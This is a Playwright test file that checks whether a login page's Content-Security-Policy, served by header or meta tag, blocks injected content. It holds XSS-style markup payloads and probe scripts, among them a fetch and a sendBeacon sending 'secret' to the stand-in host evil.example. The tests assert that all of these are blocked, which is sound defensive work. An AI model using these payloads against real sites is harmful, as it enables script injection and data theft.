import type { Page } from '@playwright/test';
import { expect, test } from '../support/fixtures';

const EVIL = 'http://evil.example/';
const TAG = /<meta http-equiv="Content-Security-Policy"[^>]*>/;
const SINK = 'require-trusted-types-for';

/** Markup that got into the page, by the directive that it breaks. */
const MARKUP = {
  'script-src-elem': `<script>ran.push('script')</script><script src="${EVIL}script"></script>`,
  'script-src-attr': `<img src="missing.png" onerror="ran.push('handler')">`,
  'style-src-elem': `<link rel="stylesheet" href="${EVIL}style">`,
  'style-src-attr': '<p style="color: red"></p>',
  'img-src': `<img src="${EVIL}image">`,
  'media-src': `<video src="${EVIL}video"></video>`,
  'frame-src': `<iframe src="${EVIL}frame"></iframe>`,
  'object-src': `<embed src="${EVIL}embed" type="text/html">`,
  'form-action': `<form action="${EVIL}form" method="post"><button id="trap">Trap</button></form>`,
};

/** What a script of the page does that was led astray, and the directive that it breaks. */
const PROBES: [directive: string, code: string][] = [
  [SINK, `eval("ran.push('eval')")`],
  [SINK, `setTimeout("ran.push('timer')")`],
  [SINK, `document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="ran.push(1)">')`],
  [SINK, `document.body.append(Object.assign(document.createElement('script'), { src: '${EVIL}script' }))`],
  ['trusted-types', `trustedTypes.createPolicy('default', { createHTML: (text) => text })`],
  ['script-src-elem', `import('${EVIL}module')`],
  ['connect-src', `fetch('${EVIL}fetch', { mode: 'no-cors' })`],
  ['connect-src', `navigator.sendBeacon('${EVIL}beacon', 'secret')`],
  ['img-src', `new Image().src = '${EVIL}pixel'`],
];

/** Opens the sign-in with `markup` in it, under the policy of its header, of its tag, or both; gives what got out. */
async function openWith(page: Page, markup: string, policies: ('header' | 'tag')[]) {
  const requests: string[] = [];
  await page.addInitScript(() => Object.assign(window, { ran: [] }));
  await page.route(`${EVIL}**`, (route) => {
    requests.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.route('**/webui/login', async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const text = (await response.text()).replace('</body>', () => `${markup}</body>`);
    if (!policies.includes('header')) delete headers['content-security-policy'];
    await route.fulfill({ response, headers, body: policies.includes('tag') ? text : text.replace(TAG, '') });
  });
  await page.goto('login');
  return async () => [
    ...requests,
    ...(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)),
  ];
}

const broken = (troubles: readonly string[]) => [
  ...new Set(troubles.flatMap((line) => /securitypolicyviolation: (\S+)/.exec(line)?.[1] ?? [])),
];

for (const policies of [['header', 'tag'], ['tag']] as const)
  test.describe(`under the policy of the ${policies.join(' and the ')}`, () => {
    test('injected markup › has no effect [security-f2]', async ({ page, signIn, troubles }) => {
      const effects = await openWith(page, Object.values(MARKUP).join(''), [...policies]);
      await expect(signIn.email).toBeVisible();
      await page.locator('#trap').dispatchEvent('click');
      await expect.poll(() => broken(troubles.list()).sort()).toEqual(Object.keys(MARKUP).sort());
      expect(await effects()).toEqual([]);
      troubles.take();
    });

    test('misled code › runs no text and requests no other host [security-f3]', async ({
      page,
      signIn,
      troubles,
    }) => {
      const effects = await openWith(page, '', [...policies]);
      await expect(signIn.email).toBeVisible();
      for (const [index, [directive, code]] of PROBES.entries()) {
        // A script of the page: what a test evaluates may do more.
        const path = `/webui/probe-${index}.js`;
        await page.route(`**${path}`, (route) =>
          route.fulfill({ contentType: 'text/javascript', body: code }),
        );
        await page.evaluate((url) => import(url).catch(() => {}), path);
        await expect.poll(() => broken(troubles.list()), code).toEqual([directive]);
        troubles.take();
      }
      expect(await effects()).toEqual([]);
    });
  });

test('injected markup › has its effect without a policy', async ({ page, troubles }) => {
  const effects = await openWith(page, Object.values(MARKUP).join(''), []);
  await expect.poll(async () => (await effects()).length).toBeGreaterThan(5);
  troubles.take();
});
